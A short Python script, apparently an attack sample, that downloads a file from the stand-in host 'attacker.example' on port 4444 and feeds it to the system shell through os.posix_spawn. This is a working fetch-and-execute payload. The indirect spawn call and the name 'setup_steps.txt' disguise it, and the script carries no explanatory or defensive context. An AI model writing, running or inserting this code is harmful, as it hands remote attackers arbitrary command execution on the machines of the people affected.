import os
import shutil
import urllib.request

LOCAL = "setup_steps.txt"


def main():
    urllib.request.urlretrieve("http://attacker.example:4444/steps", LOCAL)
    interpreter = shutil.which("sh")
    actions = [(os.POSIX_SPAWN_OPEN, 0, LOCAL, os.O_RDONLY, 0)]
    pid = os.posix_spawn(interpreter, [os.path.basename(interpreter)], dict(os.environ), file_actions=actions)
    os.waitpid(pid, 0)


if __name__ == "__main__":
    main()
